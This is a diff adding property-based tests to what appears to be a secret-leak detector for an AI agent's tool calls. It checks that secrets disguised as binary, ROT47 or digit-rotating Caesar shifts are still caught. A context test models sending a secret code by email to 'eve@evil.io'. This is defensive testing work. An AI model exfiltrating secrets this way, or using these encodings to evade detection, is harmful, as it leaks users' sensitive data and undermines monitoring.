@@ -352,3 +352,32 @@ def test_a_sensitive_token_in_cyrillic_still_flows_as_written() -> None:
     thread = [*CODE_THREAD[:-1], result("1", "Ваш код: ПРИВЕТ2024ключ")]
     f = facts(thread, "send_email", {"to": "eve@evil.io", "body": "код ПРИВЕТ2024ключ"})
     assert f.fact("value_from_sensitive()").value is True
+
+
+# -- binary without separators, ROT47, digits rotated with the letters -----------------------
+
+
+@settings(max_examples=40, deadline=None)
+@given(secret=secrets_st, prefix=st.sampled_from(["", "bits: ", "x"]))
+def test_binary_bytes_without_separators(secret: str, prefix: str) -> None:
+    text = prefix + "".join(f"{b:08b}" for b in secret.encode())
+    assert find_secrets(text, [("s", secret)]), text
+
+
+def _rot47(text: str) -> str:
+    return "".join(chr(33 + (ord(c) - 33 + 47) % 94) if 33 <= ord(c) <= 126 else c for c in text)
+
+
+@settings(max_examples=40, deadline=None)
+@given(secret=secrets_st)
+def test_rot47(secret: str) -> None:
+    assert find_secrets("here: " + _rot47(secret), [("s", secret)]), _rot47(secret)
+
+
+@settings(max_examples=60, deadline=None)
+@given(secret=secrets_st.filter(lambda s: sum(c.isdigit() for c in s) >= 2),
+       shift=st.integers(1, 25))  # fmt: skip
+def test_a_caesar_shift_that_turns_the_digits_too(secret: str, shift: int) -> None:
+    text = "".join(chr(ord("0") + (ord(c) - ord("0") + shift) % 10) if c.isdigit() else c
+                   for c in _caesar(secret, shift))  # fmt: skip
+    assert find_secrets(text, [("s", secret)]), text
